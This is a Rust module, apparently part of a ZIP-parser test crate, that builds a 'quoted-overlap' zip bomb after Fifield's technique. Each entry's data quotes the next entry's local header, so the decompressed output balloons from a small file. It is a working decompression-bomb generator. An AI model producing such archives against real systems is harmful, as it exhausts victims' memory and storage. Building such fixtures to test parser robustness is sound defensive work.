//! The quoted-overlap bomb: entries whose data are the local headers of the next ones.

use crate::builder::{Archive, Entry, Place};
use crate::fixtures;
use crate::record::{CentralDirectoryHeader, LocalFileHeader};

/// An archive of `entries` files that all end in one kernel of `kernel_len` deflated zeros.
///
/// Entry i's data is a non-final stored DEFLATE block that quotes the local header of entry i + 1,
/// followed by that entry's data (David Fifield, "A better zip bomb", 2019). Every CRC-32, size and
/// name is true; only the ranges overlap. The output grows with entries times `kernel_len`, the
/// file with their sum.
///
/// # Panics
/// Where `entries` is 0.
pub fn quoted_overlap(entries: usize, kernel_len: usize) -> Vec<u8> {
    assert!(entries > 0, "the kernel belongs to the last entry");
    let mut content = vec![0; kernel_len];
    let mut data = fixtures::deflate(9, &content);
    let mut file = Vec::new();
    let mut directory = Vec::new();
    // From the last entry to the first: each one quotes what is already there.
    for index in (0..entries).rev() {
        if index + 1 < entries {
            let header = file[..file.len() - data.len()].to_vec();
            let len = header.len() as u16;
            let mut quoting = vec![0];
            quoting.extend_from_slice(&len.to_le_bytes());
            quoting.extend_from_slice(&(!len).to_le_bytes());
            quoting.extend_from_slice(&header);
            data.splice(..0, quoting);
            content.splice(..0, header);
        }
        let header = LocalFileHeader {
            method: 8,
            crc32: fixtures::crc32(&content),
            compressed_size: data.len() as u32,
            uncompressed_size: content.len() as u32,
            name: index.to_string().into_bytes(),
            ..LocalFileHeader::default()
        };
        file.clear();
        header.write(&mut file);
        file.extend_from_slice(&data);
        directory.push((header, file.len()));
    }
    let total = file.len();
    let listed = directory.into_iter().rev().map(|(header, len)| {
        let truth = CentralDirectoryHeader {
            method: header.method,
            crc32: header.crc32,
            compressed_size: header.compressed_size,
            uncompressed_size: header.uncompressed_size,
            name: header.name,
            local_header_offset: (total - len) as u32,
            ..CentralDirectoryHeader::default()
        };
        Entry::stored("", "")
            .place(Place::At(truth.local_header_offset))
            .edit_central(move |central| *central = truth.clone())
    });
    Archive { before_directory: file, ..Archive::new().entries(listed) }.build()
}
